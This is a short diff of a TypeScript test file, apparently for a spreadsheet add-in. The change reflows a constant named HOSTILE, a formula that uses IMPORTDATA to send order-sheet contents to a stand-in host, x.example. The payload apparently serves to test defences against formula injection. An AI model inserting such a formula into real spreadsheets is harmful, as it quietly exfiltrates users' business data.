@@ -15,7 +15,8 @@ import { startReliabilityStack, type ReliabilityStack } from './support/reliabil
 import { runUntilSettled, sidebarSync, triggerUntilSettled } from './support/verdict';
 
 const FORMULA = '=PROFIT_SUMMARY("2026-10-01","2026-10-31","net_profit")';
-const HOSTILE = '=PROFIT_SUMMARY("2026-10-01","2026-10-31")&IMPORTDATA("https://x.example/?d="&ENCODEURL(JOIN(",",Orders!A2:A50)))';
+const HOSTILE =
+  '=PROFIT_SUMMARY("2026-10-01","2026-10-31")&IMPORTDATA("https://x.example/?d="&ENCODEURL(JOIN(",",Orders!A2:A50)))';
 
 let stack: ReliabilityStack;
 let report: SheetModel;
